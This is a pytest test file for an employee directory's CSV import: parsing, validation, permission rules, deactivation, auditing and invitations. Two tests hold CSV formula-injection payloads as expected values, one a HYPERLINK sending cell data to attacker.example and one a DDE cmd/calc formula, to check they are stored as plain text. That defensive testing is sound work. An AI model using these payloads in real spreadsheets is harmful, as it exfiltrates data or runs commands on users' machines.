"""The employee directory: reading employee CSV files, planning and applying imports."""

from __future__ import annotations

import codecs
import hashlib
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from helpers import statements_run
from sqlalchemy import func, insert, select

from app.errors import DomainError
from app.models import AuditEvent, Invitation, Role, User, UserRole
from app.people.accounts import deactivate_account
from app.people.directory import (
    MAX_FILE_BYTES,
    MAX_ROWS,
    Action,
    EmployeeInvalid,
    FieldChange,
    ImportInvalid,
    PlanChanged,
    apply_import,
    applying,
    create_employee,
    editing,
    plan_import,
    read_employee_csv,
    update_employee,
)
from app.people.directory_queries import search_people
from app.people.invitations import token_hash

DATA = Path(__file__).resolve().parent.parent / "data"


def spy_assignments(monkeypatch, module=applying) -> list:
    """Record whom the directory hands to apply_assignments_to (and apply nothing)."""
    seen: list = []
    monkeypatch.setattr(
        module, "apply_assignments_to", lambda session, user, now=None: seen.append(user) or 0
    )
    return seen


HEADER = "email,name,employee_id,department,manager_email,roles"
BASE = "https://candor.example"
NOW = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)

# What employees-good.csv and employees-semicolon-bom-crlf.csv both hold.
GOOD_ROWS = [
    (2, "grace@example.com", "Grace Hopper", "E001", "Leadership", None, {"hr", "learner"}),
    (
        3,
        "alan@example.com",
        "Turing, Alan",
        "E002",
        "Support; Tier 2",
        "grace@example.com",
        {"learner", "trainer"},
    ),
    (4, "zoe@example.com", "Zoë Ångström", "E003", "Support", "alan@example.com", {"learner"}),
    (6, "li@example.com", 'Li "Lee" Wei', None, "Support", "alan@example.com", None),
    (8, "ola@example.com", "Ola Nordmann", "E005", None, None, {"trainer", "learner"}),
]


def fixture(name: str) -> bytes:
    return (DATA / name).read_bytes()


def read(name: str):
    return read_employee_csv(fixture(name), name)


def csv_file(*rows: str, header: str = HEADER, source: str = "people.csv"):
    return read_employee_csv(("\n".join([header, *rows]) + "\n").encode(), source)


def summary_of(employee_file) -> list[tuple]:
    return [
        (
            r.line,
            r.email,
            r.name,
            r.employee_id,
            r.department,
            r.manager_email,
            {role.value for role in r.roles} if r.roles is not None else None,
        )
        for r in employee_file.rows
    ]


def problems_of(thing) -> list[tuple[int, str]]:
    return [(p.line, p.message) for p in thing.problems]


def run_import(db, employee_file, actor=None, **options):
    plan = plan_import(
        db, employee_file, actor=actor, deactivate_missing=options.pop("deactivate_missing", False)
    )
    assert plan.ok, problems_of(plan)
    result = apply_import(db, actor, plan, invite_base_url=BASE, now=NOW, **options)
    db.commit()
    return plan, result


def by_email(db, email: str) -> User:
    user = db.scalar(select(User).where(User.email == email))
    assert user is not None, email
    return user


def count(db, model, *where) -> int:
    return db.scalar(select(func.count()).select_from(model).where(*where))


# Reading files -------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["employees-good.csv", "employees-semicolon-bom-crlf.csv"])
def test_good_files_are_read_with_their_physical_lines(name):
    employee_file = read(name)
    assert employee_file.ok, problems_of(employee_file)
    assert summary_of(employee_file) == GOOD_ROWS


def test_the_semicolon_fixture_really_has_a_bom_crlf_and_semicolons():
    data = fixture("employees-semicolon-bom-crlf.csv")
    assert (
        data.startswith(codecs.BOM_UTF8)
        and b"\r\n" in data
        and b"\n" not in data.replace(b"\r\n", b"")
    )
    assert read("employees-semicolon-bom-crlf.csv").delimiter == ";"
    assert read("employees-good.csv").delimiter == ","


@pytest.mark.parametrize("bom", [b"", codecs.BOM_UTF8])
@pytest.mark.parametrize("newline", [b"\n", b"\r\n"])
def test_comma_file_with_or_without_bom_and_crlf(bom, newline):
    data = bom + fixture("employees-good.csv").replace(b"\n", newline)
    employee_file = read_employee_csv(data, "variant.csv")
    assert employee_file.ok and summary_of(employee_file) == GOOD_ROWS


def test_columns_in_any_order_and_case():
    employee_file = csv_file(
        "Sales,Ada,ada@example.com,learner,,A1",
        header=" Department ,NAME,Email,roles,manager_email,employee_id",
    )
    assert summary_of(employee_file) == [
        (2, "ada@example.com", "Ada", "A1", "Sales", None, {"learner"})
    ]


def test_every_bad_row_is_reported_with_its_line_and_reason():
    employee_file = read("employees-bad-rows.csv")
    assert problems_of(employee_file) == [
        (2, "the e-mail address is missing"),
        (
            3,
            "the e-mail address 'not-an-email' is not valid: An email address must have an @-sign.",
        ),
        (5, "the e-mail address 'dup@example.com' is also on line 4"),
        (6, "the name is missing"),
        (7, "the name is longer than 200 characters"),
        (8, "the name contains a control, invisible or text-direction character (U+202E)"),
        (9, "the name contains a control, invisible or text-direction character (U+0009)"),
        (10, "the employee id is longer than 64 characters"),
        (11, "the employee id 'B003' is also on line 4"),
        (12, "the department is longer than 120 characters"),
        (13, "a person cannot be their own manager"),
        (
            15,
            "unknown role 'superuser' (roles are learner, trainer, hr and admin, separated by "
            "; or |)",
        ),
        (16, "this row has 7 fields but the header has 6; quote values that contain a comma"),
        (17, "the name contains a control, invisible or text-direction character (U+000A)"),
    ]
    assert [r.line for r in employee_file.rows] == [4, 14, 19]  # 19: after a two-line record
    assert all(str(p).startswith("employees-bad-rows.csv:") for p in employee_file.problems)


def test_a_manager_neither_in_the_file_nor_an_account_is_reported_by_the_plan(db):
    plan = plan_import(db, read("employees-bad-rows.csv"))
    assert (
        14,
        "the manager 'nobody@example.com' is neither in the file nor an existing account",
    ) in problems_of(plan)
    assert not plan.ok


def test_a_row_may_have_several_problems_each_reported():
    employee_file = csv_file("bad,,x,,,chief")
    assert [line for line, _ in problems_of(employee_file)] == [2, 2, 2]


def test_unknown_and_missing_columns_are_named():
    assert problems_of(read("employees-bad-header.csv")) == [
        (
            1,
            "the header has no column 'manager_email' (the columns are email, name, "
            "employee_id, department, manager_email, roles)",
        ),
        (
            1,
            "unknown column 'manager' in the header (the columns are email, name, "
            "employee_id, department, manager_email, roles)",
        ),
    ]
    twice = csv_file(header=HEADER + ",email,")
    assert problems_of(twice) == [
        (1, "column 8 of the header has no name"),
        (1, "the column 'email' appears twice in the header"),
    ]


def test_a_file_without_a_header_is_refused():
    headerless = read_employee_csv(b"grace@example.com,Grace,E1,,,\n", "x.csv")
    assert not headerless.ok and headerless.problems[0].line == 1
    assert problems_of(headerless) == [
        (1, f"the first line must be the header, naming the columns {HEADER} (in any order)")
    ]
    assert problems_of(read_employee_csv(b"", "x.csv")) == [
        (0, "the file is empty: it needs a header line " + HEADER)
    ]
    assert problems_of(read_employee_csv(codecs.BOM_UTF8 + b"\r\n\r\n", "x.csv"))[0][0] == 0


def test_a_header_alone_is_an_empty_import():
    employee_file = csv_file()
    assert employee_file.ok and employee_file.rows == ()


def test_invalid_utf8_is_reported_with_its_line():
    assert problems_of(read("employees-latin1.csv")) == [
        (3, "this line is not valid UTF-8: save the file as CSV UTF-8")
    ]
    data = (
        codecs.BOM_UTF8
        + (HEADER + '\na@example.com,A,,,,\n"b@example.com","B\nB",,,,').encode()
        + b"\xff\n"
    )
    assert problems_of(read_employee_csv(data, "x.csv"))[0][0] == 4


def test_malformed_quotes_are_reported_from_their_line():
    employee_file = csv_file("a@example.com,A,,,,", 'b@example.com,"B"x,,,,')
    assert problems_of(employee_file) == [
        (3, "the CSV is malformed from this line (',' expected after '\"'): check its quotes")
    ]
    unterminated = csv_file("a@example.com,A,,,,", 'b@example.com,"B,,,,', "c@example.com,C,,,,")
    assert [line for line, _ in problems_of(unterminated)] == [3]


def test_oversized_files_are_refused():
    big = read_employee_csv(b"x" * (MAX_FILE_BYTES + 1), "big.csv")
    assert problems_of(big) == [(0, "the file is larger than 5 MiB; split it into smaller files")]
    rows = [f"p{i}@example.com,P {i},,,," for i in range(MAX_ROWS + 1)]
    too_many = csv_file(*rows)
    assert problems_of(too_many) == [
        (MAX_ROWS + 2, f"the file has more than {MAX_ROWS} rows; split it into smaller files")
    ]


def test_roles_are_separated_by_semicolon_or_bar_in_any_case():
    employee_file = csv_file('a@example.com,A,,,,"Trainer | HR ;learner"', "b@example.com,B,,,,")
    assert [r.roles for r in employee_file.rows] == [
        frozenset({Role.TRAINER, Role.HR, Role.LEARNER}),
        None,
    ]


def test_formula_looking_values_are_read_as_text():
    employee_file = read("employees-formulas.csv")
    assert employee_file.ok
    assert [(r.name, r.employee_id, r.department) for r in employee_file.rows] == [
        ('=HYPERLINK("http://attacker.example/?"&A1,"Click")', "=1+2", "+SUM(A1:A9)"),
        ("@cmd|' /C calc'!A0", "-5", "=cmd"),
        ("+1-2", "=2+3", "-IMPORTXML(x)"),
    ]


def test_messages_show_unsafe_values_spelled_out_and_bounded():
    employee_file = csv_file(
        "x\u202e@@example.com,A,,,,",
        f"b@example.com,B,{'Z' * 40},,,",
        f"c@example.com,C,{'Z' * 40},,,",
    )
    messages = [m for _, m in problems_of(employee_file)]
    assert "\u202e" not in messages[0] and "\\u202e" in messages[0]
    assert "also on line 3" in messages[1]


# Planning and applying ----------------------------------------------------------------------


def test_import_creates_accounts_managers_and_invitations(db):
    plan, result = run_import(db, read("employees-good.csv"))
    assert [r.action for r in plan.rows] == [Action.CREATE] * 5
    assert plan.summary() == "5 to create, 0 to change, 0 to deactivate, 0 unchanged."
    grace, alan, zoe = (
        by_email(db, e) for e in ("grace@example.com", "alan@example.com", "zoe@example.com")
    )
    li = by_email(db, "li@example.com")
    assert (alan.manager_id, zoe.manager_id, li.manager_id, grace.manager_id) == (
        grace.id,
        alan.id,
        alan.id,
        None,
    )
    assert grace.roles == {Role.HR, Role.LEARNER} and li.roles == {Role.LEARNER}
    assert (alan.name, alan.department, li.employee_id) == ("Turing, Alan", "Support; Tier 2", None)
    everyone = db.scalars(select(User)).all()
    assert all(u.password_hash is None and u.active for u in everyone)
    assert len({u.session_generation for u in everyone}) == 5
    assert len(result.invitations) == 5 and set(result.created) == {
        u.id for u in db.scalars(select(User))
    }
    for link in result.invitations:
        assert link.url.startswith(f"{BASE}/invite/") and link.expires_at == NOW + timedelta(7)
        token = link.url.rsplit("/", 1)[1]
        stored = db.scalar(select(Invitation).where(Invitation.user_id == link.user_id))
        assert stored.token_hash == hashlib.sha256(token.encode()).hexdigest() != token
        assert token not in repr(result)


def test_import_is_audited_with_ids_only(db):
    _, result = run_import(db, read("employees-good.csv"))
    events = db.scalars(select(AuditEvent).order_by(AuditEvent.id)).all()
    assert [e.action for e in events] == ["user.created"] * 5 + ["users.imported"]
    assert events[-1].details == {
        "created": 5,
        "changed": 0,
        "deactivated": 0,
        "unchanged": 0,
        "rows": 5,
    }
    assert {int(e.subject_id) for e in events[:5]} == set(result.created)
    text = repr([e.details for e in events])
    assert "Grace" not in text and "@" not in text and "invite" not in text


@pytest.mark.parametrize("again", ["employees-good.csv", "employees-semicolon-bom-crlf.csv"])
def test_reimporting_the_same_people_changes_nothing(db, again):
    run_import(db, read("employees-good.csv"))
    before = count(db, AuditEvent)
    plan = plan_import(db, read(again))
    assert not plan.has_changes and [r.action for r in plan.rows] == [Action.UNCHANGED] * 5
    result = apply_import(db, None, plan, invite_base_url=BASE)
    db.commit()
    assert (result.created, result.changed, result.invitations, result.unchanged) == ((), (), (), 5)
    assert count(db, AuditEvent) == before + 1  # only "users.imported"
    assert count(db, Invitation) == 5


def test_changes_are_listed_old_to_new_and_applied(db, monkeypatch):
    run_import(db, read("employees-good.csv"))
    zoe = by_email(db, "zoe@example.com")
    changed = csv_file(
        "grace@example.com,Grace Hopper,E001,Leadership,,hr;learner",
        'alan@example.com,"Turing, Alan",E002,Research,grace@example.com,learner',
        "zoe@example.com,Zoë Ångström-Berg,E003,Support,grace@example.com,learner",
        'li@example.com,Li "Lee" Wei,,Support,,',
        "ola@example.com,Ola Nordmann,E005,,,trainer|learner",
    )
    plan = plan_import(db, changed)
    assert {r.line: r.changes for r in plan.changes} == {
        3: (
            FieldChange("department", "Support; Tier 2", "Research"),
            FieldChange("roles", "learner;trainer", "learner"),
        ),
        4: (
            FieldChange("name", "Zoë Ångström", "Zoë Ångström-Berg"),
            FieldChange("manager_email", "alan@example.com", "grace@example.com"),
        ),
        5: (FieldChange("manager_email", "alan@example.com", None),),
    }
    seen = spy_assignments(monkeypatch)
    result = apply_import(db, None, plan, invite_base_url=BASE)
    db.commit()
    alan, grace = by_email(db, "alan@example.com"), by_email(db, "grace@example.com")
    db.refresh(zoe)
    assert (alan.department, alan.roles) == ("Research", {Role.LEARNER})
    assert (zoe.name, zoe.manager_id) == ("Zoë Ångström-Berg", grace.id)
    assert by_email(db, "li@example.com").manager_id is None
    assert seen == [alan]  # only the department change concerns assignments
    assert len(result.changed) == 3 and result.invitations == ()
    updated = db.scalars(
        select(AuditEvent).where(AuditEvent.action == "user.updated").order_by(AuditEvent.id)
    ).all()
    assert [e.details["fields"] for e in updated] == [
        ["department", "roles"],
        ["name", "manager_email"],
        ["manager_email"],
    ]
    assert not plan_import(db, changed).has_changes


def test_every_new_account_gets_its_assignments(db, monkeypatch):
    seen = spy_assignments(monkeypatch)
    run_import(db, read("employees-good.csv"))
    assert sorted(u.email for u in seen) == sorted(r[1] for r in GOOD_ROWS)
    assert all(u.id is not None for u in seen)


def test_an_empty_roles_cell_keeps_an_existing_accounts_roles(db, make_user):
    trainer = make_user(roles={Role.TRAINER, Role.LEARNER}, email="t@example.com", name="T")
    plan = plan_import(db, csv_file("t@example.com,T,,,,"))
    assert [r.action for r in plan.rows] == [Action.UNCHANGED]
    assert trainer.roles == {Role.TRAINER, Role.LEARNER}


def test_matching_by_employee_id_when_the_email_changed(db):
    run_import(db, read("employees-good.csv"))
    alan = by_email(db, "alan@example.com")
    plan = plan_import(
        db,
        csv_file(
            "grace@example.com,Grace Hopper,E001,Leadership,,hr;learner",
            'alan.turing@example.com,"Turing, Alan",E002,"Support; Tier 2",grace@example.com,'
            "learner;trainer",
        ),
    )
    assert [(r.user_id, r.changes) for r in plan.changes] == [
        (alan.id, (FieldChange("email", "alan@example.com", "alan.turing@example.com"),))
    ]
    apply_import(db, None, plan, invite_base_url=BASE)
    db.commit()
    db.refresh(alan)
    assert alan.email == "alan.turing@example.com" and count(db, User) == 5


def test_addresses_may_move_between_accounts_in_one_file(db):
    run_import(db, csv_file("a@example.com,A,E1,,,", "b@example.com,B,E2,,,"))
    swapped = csv_file("b@example.com,A,E1,,,", "a@example.com,B,E2,,,")
    plan, _ = run_import(db, swapped)
    assert len(plan.changes) == 2
    assert {u.employee_id: u.email for u in db.scalars(select(User))} == {
        "E1": "b@example.com",
        "E2": "a@example.com",
    }
    assert not plan_import(db, swapped).has_changes


def test_an_account_without_employee_id_is_matched_by_email_and_gets_one(db, make_user):
    person = make_user(email="kim@example.com", name="Kim")
    plan, _ = run_import(db, csv_file("KIM@example.com,Kim,K9,Sales,,learner"))
    assert plan.changes[0].user_id == person.id
    db.refresh(person)
    assert (person.employee_id, person.department) == ("K9", "Sales")
    assert person.password_hash is not None  # an existing password is left alone


def test_an_empty_employee_id_keeps_the_one_on_the_account(db, make_user):
    make_user(email="kim@example.com", name="Kim", employee_id="K9")
    plan = plan_import(db, csv_file("kim@example.com,Kim,,,,learner"))
    assert [r.action for r in plan.rows] == [Action.UNCHANGED]


def test_an_email_held_by_another_employee_id_is_refused(db, make_user):
    make_user(email="kim@example.com", name="Kim", employee_id="K1")
    plan = plan_import(db, csv_file("kim@example.com,Kim,K2,,,"))
    assert problems_of(plan) == [
        (
            2,
            (
                "the e-mail address 'kim@example.com' belongs to the account with employee id "
                "'K1', but this row has employee id 'K2'; correct one of them by hand first"
            ),
        )
    ]
    assert plan.rows == ()


def test_an_email_taken_by_an_account_not_in_the_file_is_refused(db, make_user):
    make_user(email="kim@example.com", name="Kim", employee_id="K1")
    other = make_user(email="lee@example.com", name="Lee", employee_id="L1")
    plan = plan_import(db, csv_file("lee@example.com,Kim,K1,,,"))
    assert problems_of(plan) == [
        (
            2,
            (
                "the e-mail address 'lee@example.com' already belongs to another account "
                f"(#{other.id}) that is not in this file"
            ),
        )
    ]


def test_a_manager_may_be_an_existing_account(db, make_user):
    boss = make_user(email="boss@example.com", name="Boss")
    run_import(db, csv_file("a@example.com,A,,,boss@example.com,"))
    assert by_email(db, "a@example.com").manager_id == boss.id


def test_a_manager_whose_address_changes_must_be_given_by_the_new_one(db, make_user):
    make_user(email="boss@example.com", name="Boss", employee_id="B1")
    plan = plan_import(
        db, csv_file("new.boss@example.com,Boss,B1,,,", "a@example.com,A,,,boss@example.com,")
    )
    assert [line for line, _ in problems_of(plan)] == [3]
    assert "use the new one" in plan.problems[0].message


def test_missing_people_are_deactivated_but_admins_and_the_actor_kept(db, make_user):
    actor = make_user(roles={Role.HR}, email="hr@example.com", name="HR")
    admin = make_user(roles={Role.ADMIN}, email="root@example.com", name="Root")
    leaver = make_user(email="leaver@example.com", name="Leaver")
    gone = make_user(email="gone@example.com", name="Gone", active=False)
    typo = make_user(email="typo@example.com", name="Typo")
    generation = leaver.session_generation
    employee_file = csv_file("new@example.com,New,,,,", "typo@example.com,,,,,")
    assert not plan_import(db, employee_file, actor=actor).deactivations
    plan = plan_import(db, employee_file, actor=actor, deactivate_missing=True)
    assert [d.user_id for d in plan.deactivations] == [leaver.id]  # typo's row is rejected
    assert not plan.ok
    fixed = csv_file("new@example.com,New,,,,", "typo@example.com,Typo,,,,")
    plan, result = run_import(db, fixed, actor=actor, deactivate_missing=True)
    assert plan.summary() == "1 to create, 0 to change, 1 to deactivate, 1 unchanged."
    assert result.deactivated == (leaver.id,)
    # No refresh: the bulk update expires the accounts this session holds.
    assert [p.active for p in (actor, admin, leaver, gone, typo)] == [
        True,
        True,
        False,
        False,
        True,
    ]
    assert leaver.deactivated_at == NOW and leaver.session_generation != generation
    assert db.scalar(
        select(AuditEvent).where(AuditEvent.action == "user.deactivated")
    ).subject_id == str(leaver.id)
    assert not plan_import(db, fixed, actor=actor, deactivate_missing=True).has_changes


def test_an_import_never_reactivates(db, make_user):
    person = make_user(email="back@example.com", name="Back", active=False)
    plan, _ = run_import(db, csv_file("back@example.com,Back,,Sales,,"))
    assert [r.user_id for r in plan.still_inactive] == [person.id]
    db.refresh(person)
    assert not person.active and person.department == "Sales"


def test_only_admins_grant_admin_or_change_admins(db, make_user):
    hr = make_user(roles={Role.HR}, email="hr@example.com", name="HR")
    admin = make_user(roles={Role.ADMIN}, email="root@example.com", name="Root")
    employee_file = csv_file(
        "root@example.com,Root Renamed,,,,admin",
        "hr@example.com,HR,,,,hr;admin",
        "new@example.com,New,,,,admin",
    )
    assert problems_of(plan_import(db, employee_file, actor=hr)) == [
        (2, "only an administrator can change an administrator's account"),
        (3, "only an administrator can give the admin role"),
        (4, "only an administrator can give the admin role"),
    ]
    unchanged_admin = csv_file("root@example.com,Root,,,,")
    assert plan_import(db, unchanged_admin, actor=hr).ok
    plan = plan_import(db, employee_file, actor=admin)
    assert plan.ok and len(plan.changes) == 2 and len(plan.creates) == 1


def test_an_admin_cannot_remove_their_own_admin_role(db, make_user):
    admin = make_user(roles={Role.ADMIN}, email="root@example.com", name="Root")
    plan = plan_import(db, csv_file("root@example.com,Root,,,,learner"), actor=admin)
    assert problems_of(plan) == [(2, "you cannot remove your own admin role")]


def test_formula_looking_names_are_stored_verbatim(db):
    run_import(db, read("employees-formulas.csv"))
    eve = by_email(db, "eve@example.com")
    assert eve.name == '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    assert (eve.employee_id, eve.department) == ("=1+2", "+SUM(A1:A9)")
    assert by_email(db, "mallory@example.com").name == "@cmd|' /C calc'!A0"


def test_a_plan_with_problems_is_not_applied(db):
    plan = plan_import(db, read("employees-bad-rows.csv"))
    with pytest.raises(ImportInvalid) as refused:
        apply_import(db, None, plan, invite_base_url=BASE)
    assert "employees-bad-rows.csv:2: the e-mail address is missing" in refused.value.message
    assert count(db, User) == 0 and not db.new and not db.dirty


def test_apply_refuses_when_the_accounts_changed_since_planning(app, db):
    plan = plan_import(db, read("employees-good.csv"))
    db.rollback()  # planning and applying are two requests, two transactions
    with app.extensions["candor.sessionmaker"]() as other:
        other.add(User(email="zoe@example.com", name="Someone Else"))
        other.commit()
    with pytest.raises(PlanChanged):
        apply_import(db, None, plan, invite_base_url=BASE)
    assert not db.new and not db.dirty
    db.commit()  # even a careless caller that commits writes nothing
    assert count(db, User) == 1 and count(db, AuditEvent) == 0


def test_a_conflict_committed_after_the_recheck_is_refused_too(app, db, monkeypatch):
    from app.people import directory

    plan = plan_import(db, read("employees-good.csv"))
    db.rollback()  # planning and applying are two requests, two transactions
    monkeypatch.setattr(directory, "plan_import", lambda *args, **kwargs: plan)
    with app.extensions["candor.sessionmaker"]() as other:  # after the re-check, before writing
        other.add(User(email="li@example.com", name="Someone Else"))
        other.commit()
    with pytest.raises(PlanChanged):
        apply_import(db, None, plan, invite_base_url=BASE)
    db.rollback()
    assert count(db, User) == 1 and count(db, Invitation) == count(db, AuditEvent) == 0


def test_apply_refuses_a_plan_made_for_someone_else(db, make_user):
    hr, other = make_user(roles={Role.HR}), make_user(roles={Role.HR})
    plan = plan_import(db, csv_file("a@example.com,A,,,,"), actor=hr)
    with pytest.raises(DomainError, match="someone else"):
        apply_import(db, other, plan, invite_base_url=BASE)


def test_apply_writes_nothing_when_it_fails_midway(app, db, monkeypatch):
    plan = plan_import(db, read("employees-good.csv"))
    calls = []

    def assign(session, user, now=None):
        calls.append(user)
        if len(calls) == 2:
            raise RuntimeError("assignment service failed")
        return 0

    monkeypatch.setattr(applying, "apply_assignments_to", assign)
    with pytest.raises(RuntimeError):
        apply_import(db, None, plan, invite_base_url=BASE)
    with app.extensions["candor.sessionmaker"]() as other:  # nothing was committed
        assert count(other, User) == 0
    db.rollback()  # what the view's or command's teardown does
    assert count(db, User) == count(db, Invitation) == count(db, AuditEvent) == 0
    plan, _ = run_import(db, read("employees-good.csv"))  # and the same plan can run again
    assert count(db, User) == 5


def test_the_fingerprint_identifies_the_plan(db):
    employee_file = read("employees-good.csv")
    first, second = plan_import(db, employee_file), plan_import(db, employee_file)
    assert first.fingerprint == second.fingerprint
    assert plan_import(db, employee_file, deactivate_missing=True).fingerprint != (
        first.fingerprint
    )
    run_import(db, employee_file)
    assert plan_import(db, employee_file).fingerprint != first.fingerprint


def test_ten_thousand_rows_are_planned_in_a_fixed_number_of_queries(db):
    n = 10_000
    rows = [
        f"person{i}@example.com,Person {i},N{i:05d},Dept {i % 40},"
        f"{'' if i < 100 else f'person{i % 100}@example.com'},learner"
        for i in range(n)
    ]
    data = ("\n".join([HEADER, *rows]) + "\n").encode()

    started = time.perf_counter()
    employee_file = read_employee_csv(data, "big.csv")
    read_seconds = time.perf_counter() - started
    assert employee_file.ok and len(employee_file.rows) == n

    db.execute(
        insert(User),
        [
            {
                "email": f"person{i}@example.com",
                "name": f"Person {i}",
                "employee_id": f"N{i:05d}",
                "department": f"Dept {i % 40}",
                "session_generation": f"g{i}",
            }
            for i in range(0, n, 2)
        ],
    )
    ids = db.scalars(select(User.id)).all()
    db.execute(insert(UserRole), [{"user_id": i, "role": Role.LEARNER} for i in ids])
    db.commit()

    engine = db.get_bind()
    with statements_run(engine) as statements:
        started = time.perf_counter()
        plan = plan_import(db, employee_file, deactivate_missing=True)
        plan_seconds = time.perf_counter() - started
    assert len(statements) == 2, statements
    assert len(plan.creates) == n // 2 and len(plan.changes) > 0

    started = time.perf_counter()
    result = apply_import(db, None, plan, invite_base_url=BASE)
    db.commit()
    apply_seconds = time.perf_counter() - started
    assert len(result.created) == n // 2
    started = time.perf_counter()
    again = plan_import(db, employee_file)
    replan_seconds = time.perf_counter() - started
    assert not again.has_changes
    print(
        f"\n{n} rows on {engine.dialect.name}: read {read_seconds:.2f}s, plan "
        f"{plan_seconds:.2f}s, apply {apply_seconds:.2f}s, plan again {replan_seconds:.2f}s"
    )


# By hand ------------------------------------------------------------------------------------


def test_create_employee_checks_like_the_import_and_invites(db, make_user, monkeypatch):
    hr = make_user(roles={Role.HR})
    boss = make_user(email="boss@example.com", name="Boss")
    seen = spy_assignments(monkeypatch, editing)
    new = create_employee(
        db,
        hr,
        email=" Kim@Example.com ",
        name="Kim",
        employee_id="K1",
        department="Sales",
        manager_email="boss@example.com",
        invite_base_url=BASE,
        now=NOW,
    )
    db.commit()
    user = new.user
    assert (user.email, user.manager_id, user.roles, user.password_hash) == (
        "kim@example.com",
        boss.id,
        {Role.LEARNER},
        None,
    )
    assert new.invitation.url.startswith(BASE + "/invite/")
    assert new.invitation.expires_at == NOW + timedelta(days=7) and seen == [user]
    stored = db.scalar(select(Invitation).where(Invitation.user_id == user.id))
    assert stored.token_hash == token_hash(new.invitation.url.rsplit("/", 1)[1])

    with pytest.raises(EmployeeInvalid) as refused:
        create_employee(
            db,
            hr,
            email="kim@example.com",
            name="Kim\u202e",
            employee_id="K1",
            manager_email="nobody@example.com",
            roles="admin",
            invite_base_url=BASE,
        )
    assert refused.value.errors == {
        "name": "the name contains a control, invisible or text-direction character (U+202E)"
    }
    with pytest.raises(EmployeeInvalid) as refused:
        create_employee(
            db,
            hr,
            email="kim@example.com",
            name="Kim",
            employee_id="K1",
            manager_email="nobody@example.com",
            roles=[Role.ADMIN],
            invite_base_url=BASE,
        )
    assert refused.value.errors == {
        "email": "the e-mail address 'kim@example.com' already has an account",
        "employee_id": "the employee id 'K1' already belongs to another account",
        "manager_email": "the manager 'nobody@example.com' is not an existing account",
        "roles": "only an administrator can give the admin role",
    }
    assert refused.value.message.startswith(
        "The e-mail address 'kim@example.com' already has an account."
    )


def test_update_employee_changes_only_what_is_given(db, make_user, monkeypatch):
    hr = make_user(roles={Role.HR})
    person = make_user(email="kim@example.com", name="Kim", department="Sales", employee_id="K1")
    seen = spy_assignments(monkeypatch, editing)
    update_employee(db, hr, person.id, department="Support")
    db.commit()
    assert (person.department, person.name, person.employee_id) == ("Support", "Kim", "K1")
    assert seen == [person]
    event_ = db.scalar(select(AuditEvent).where(AuditEvent.action == "user.updated"))
    assert event_.details == {"via": "form", "fields": ["department"]}
    update_employee(db, hr, person.id, name="Kim", department="Support")  # no change
    assert count(db, AuditEvent, AuditEvent.action == "user.updated") == 1
    update_employee(db, hr, person.id, employee_id="", roles="trainer;learner")
    assert person.employee_id is None and person.roles == {Role.TRAINER, Role.LEARNER}
    with pytest.raises(EmployeeInvalid) as refused:
        update_employee(db, hr, person.id, manager_email="kim@example.com")
    assert refused.value.errors == {"manager_email": "a person cannot be their own manager"}
    with pytest.raises(TypeError):
        update_employee(db, hr, person.id, password="x")
    with pytest.raises(EmployeeInvalid) as refused:
        update_employee(db, hr, person.id, roles=["learner", "superuser"])
    assert list(refused.value.errors) == ["roles"]


def test_hr_cannot_change_or_deactivate_an_admin(db, make_user):
    hr = make_user(roles={Role.HR})
    admin = make_user(roles={Role.ADMIN}, name="Root")
    with pytest.raises(EmployeeInvalid, match="administrator"):
        update_employee(db, hr, admin.id, name="Not Root")
    with pytest.raises(EmployeeInvalid, match="give the admin role"):
        update_employee(db, hr, hr.id, roles="hr;admin")
    with pytest.raises(DomainError, match="Only an administrator can deactivate"):
        deactivate_account(db, hr, admin.id)
    other_admin = make_user(roles={Role.ADMIN})
    assert not deactivate_account(db, other_admin, admin.id).active


def test_the_people_search_takes_wildcards_literally(db, make_user):
    make_user(name="Ana Silva", department="Sales_EU")
    make_user(name="Ben 100% Okafor", email="ben@example.com")
    make_user(name="Cleo Sales", department="SalesXEU")
    assert [p.name for p in search_people(db, "sales_eu").people] == ["Ana Silva"]
    assert [p.name for p in search_people(db, "100%").people] == ["Ben 100% Okafor"]
    assert search_people(db, "%").total == 1
    found = search_people(db, "SALES")
    assert [p.name for p in found.people] == ["Ana Silva", "Cleo Sales"] and found.total == 2


def test_staff_roles_are_granted_and_changed_by_admins_only(db, make_user):
    """An HR user cannot make HR accounts (and hold their invitation links), give the HR role,
    or change or deactivate another HR user; an administrator can."""
    from app.people.accounts import deactivate_account

    hr = make_user(roles={Role.HR}, email="hr@example.com", name="HR")
    colleague = make_user(roles={Role.HR}, email="hr2@example.com", name="Colleague")
    admin = make_user(roles={Role.ADMIN}, email="root@example.com", name="Root")
    learner = make_user(email="kim@example.com", name="Kim")
    employee_file = csv_file(
        "new.hr@example.com,New HR,,,,hr",
        "kim@example.com,Kim,,,,hr;learner",
        "hr2@example.com,Colleague Renamed,,,,",
    )
    assert problems_of(plan_import(db, employee_file, actor=hr)) == [
        (2, "only an administrator can give the hr role"),
        (3, "only an administrator can give the hr role"),
        (4, "only an administrator can change another HR account"),
    ]
    assert plan_import(db, employee_file, actor=admin).ok
    with pytest.raises(EmployeeInvalid):
        create_employee(
            db, hr, email="x@example.com", name="X", roles=[Role.HR], invite_base_url=BASE
        )
    with pytest.raises(DomainError, match="Only an administrator can deactivate"):
        deactivate_account(db, hr, colleague.id)
    missing = plan_import(db, csv_file("hr@example.com,HR,,,,"), actor=hr, deactivate_missing=True)
    assert [d.user_id for d in missing.deactivations] == [learner.id]
    assert deactivate_account(db, admin, colleague.id).active is False


def test_an_import_keeps_the_search_key_of_new_and_changed_people(db):
    run_import(db, read("employees-good.csv"))
    assert [u.email for u in search_people(db, "angstrom").people] == ["zoe@example.com"]
    changed = csv_file("zoe@example.com,Zoë Ñúñez,E003,Support,,learner")
    run_import(db, changed)
    db.expire_all()
    assert search_people(db, "angstrom").people == []
    assert [u.email for u in search_people(db, "nunez").people] == ["zoe@example.com"]
